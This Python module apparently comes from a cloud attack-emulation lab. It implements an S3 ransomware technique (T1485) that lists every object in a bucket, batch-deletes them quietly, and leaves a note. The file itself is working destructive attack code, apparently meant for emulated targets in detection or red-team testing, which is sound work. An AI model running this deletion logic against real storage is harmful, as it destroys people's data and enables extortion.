"""s3-ransomware-batch-deletion: delete a bucket's objects in batches (T1485)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.s3_ransomware import S3RansomwareTechnique
from lab.emulator.endpoints import Endpoints


class S3RansomwareBatchDeletion(S3RansomwareTechnique):
    folder = Path(__file__).parent
    PURPOSE = "target-ransomware-batch"

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        s3 = endpoints.client("s3", "attacker")
        bucket = prerequisites["bucket"]
        keys = [{"Key": o["Key"]} for o in s3.list_objects_v2(Bucket=bucket).get("Contents", [])]
        s3.delete_objects(Bucket=bucket, Delete={"Objects": keys, "Quiet": True})
        self.leave_note(s3, bucket)


TECHNIQUE = S3RansomwareBatchDeletion
